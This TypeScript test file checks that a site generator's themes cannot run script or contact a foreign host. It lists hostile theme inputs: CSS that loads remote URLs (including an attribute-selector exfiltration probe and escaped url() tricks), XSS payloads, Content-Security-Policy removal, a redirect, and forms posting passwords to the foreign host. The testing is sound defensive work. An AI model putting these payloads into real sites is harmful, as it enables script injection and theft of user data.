/** Themes that want more than to look different. */

import assert from "node:assert/strict";
import { cpSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { launchWatched, type Watched } from "./elsewhere";
import { openTab, type Served } from "./harness";
import { FOREIGN } from "./hostile";
import { goToRoute, unlock } from "./reader";
import { hostile, served } from "./shared";
import { buildSite, filesIn, readLibrary, ROOT, scratchFolder } from "./sites";

const away = `https://${FOREIGN}`;
const original = (name: string): string => readFileSync(join(ROOT, "themes/default", name), "utf8");
const policy = /<meta http-equiv="Content-Security-Policy"[^>]*>/;

/** What a theme's file may say instead: its name, and the text. */
function themes(): [name: string, text: string][] {
  const styles = [
    `body{background:url(${away}/a)}`,
    `@import "${away}/b.css";`,
    `@import url(${away}/c.css);`,
    `body{background:\\75\\72\\6c(${away}/d)}`,
    `body{background:image-set("${away}/e" 1x)}`,
    `body{background:-webkit-image-set(url("${away}/f") 1x)}`,
    `@font-face{font-family:x;src:url("//${FOREIGN}/g")}body{font-family:x}`,
    `body{cursor:url(${away}/h),auto;list-style:url(data:image/svg+xml,x);border-image-source:URL(${away}/i)}`,
    `input[value^="A"]{background:ur\\l("${away}/j")}`,
    `*{behavior:url(${away}/k);-moz-binding:url(${away}/l)}`,
    `</style><script>canary("style")</script>`,
    `body::after{content:url(${away}/m)}`,
    `:root{--x:url(${away}/n)}body{background:var(--x)}`,
    `@namespace url(${away}/o);@document url(${away}/p){}`,
  ];
  const drawn = [`<script>canary("drawn")</script>`, `<svg onload=canary("mark")></svg>`, `<svg><use href="${away}#x"/></svg>`, `<img src="${away}/mark.png">`, `<iframe src="${away}"></iframe>`, `<a href="javascript:canary('link')">x</a>`, `<p style="position:fixed">x</p>`, `<form action="${away}"><input type=password></form>`, `<div id="gradus-key">x</div>`, `<base href="${away}">`];
  const documents = ["shell.html", "public.html"].flatMap((name): [string, string][] => {
    const text = original(name);
    const changed = [
      text.replace(policy, ""),
      text.replace("default-src 'none'", "default-src *"),
      text.replace(policy, (found) => `<!--${found}-->`),
      text.replace("<head>", `<head><meta http-equiv="refresh" content="0;url=${away}">`),
      text.replace("</head>", `<script src="${away}/s.js"></script></head>`),
      text.replace("</head>", `<script>canary("inline")</script></head>`),
      text.replace("</head>", `<base href="${away}/"></head>`),
      text.replace("</head>", `<link rel="stylesheet" href="${away}/s.css"></head>`),
      text.replace("<body", `<body onload="canary('body')"`),
      text.replace("</main>", `<form action="${away}" method="post"><input type="password" name="k"></form></main>`),
      text.replace("</main>", `<iframe src="${away}"></iframe></main>`),
      text.replace("</main>", `<img src="${away}/x.png"></main>`),
    ];
    return changed.slice(name === "shell.html" ? 0 : 8).map((one) => [name, one]);
  });
  const icons = [`<svg xmlns="http://www.w3.org/2000/svg" onload="canary('icon')"><script>canary("icon")</script><image href="${away}/i.png"/></svg>`];
  return [...styles.map((text): [string, string] => ["own.css", text]), ...drawn.slice(0, 5).map((text): [string, string] => ["mark.html", text]), ...drawn.slice(5).map((text): [string, string] => ["portfolio.html", text]), ...documents, ...icons.map((text): [string, string] => ["icon.svg", text])];
}

test("a call to another host is counted", async () => {
  const { browser, calls, close } = await launchWatched();
  const { context, page } = await openTab(browser);
  await page.goto((await hostileSite()).url);
  assert.equal(calls(), 0);
  await page.goto(away).catch(() => undefined); // nobody answers
  assert.ok(calls() > 0);
  await context.close();
  await close();
});

const hostileSite = async (): Promise<Served> => served((await hostile()).folder);

test("whatever a theme says, nothing runs and nothing is asked of another host: it is refused, or drawn without", async () => {
  const { tree, key } = await hostile();
  const organisation = scratchFolder("themed");
  cpSync(tree, organisation, { recursive: true });
  writeFileSync(join(organisation, "gradus.toml"), `theme = "evil"\n${readFileSync(join(tree, "gradus.toml"), "utf8")}`);
  const watched = await launchWatched();
  let drawn = 0;
  for (const [at, [name, text]] of themes().entries()) {
    rmSync(join(organisation, "themes"), { recursive: true, force: true });
    mkdirSync(join(organisation, "themes/evil"), { recursive: true });
    writeFileSync(join(organisation, "themes/evil", name), text);
    const folder = builtWith(organisation, `themed-${at}`);
    if (folder === null) continue;
    drawn += 1;
    await assertHarmless(watched, folder, key, `${name}: ${text.slice(0, 200)}`);
  }
  await watched.close();
  assert.ok(drawn > 0 && drawn < themes().length, `${drawn} of ${themes().length} are drawn`);
});

/** The folder; nothing where the program refuses the theme, in words about the theme. */
function builtWith(organisation: string, name: string): string | null {
  try {
    return buildSite(organisation, name);
  } catch (error) {
    assert.match(String((error as { stderr?: unknown }).stderr), /themes\/(evil|default)\//);
    return null;
  }
}

async function assertHarmless({ browser, calls }: Watched, folder: string, key: string, theme: string): Promise<void> {
  const { url } = await served(folder);
  const library = await readLibrary(folder, key);
  const { context, page } = await openTab(browser);
  const ran: string[] = [];
  await page.exposeFunction("canary", (what: string) => ran.push(what));
  await unlock(page, url, key);
  await goToRoute(page, library, "rubric/ic");
  for (const path of filesIn(folder, "rubric").slice(0, 1)) await page.goto(`${url}${path}`);
  await context.close();
  assert.deepEqual(ran, [], theme);
  assert.equal(calls(), 0, theme);
}
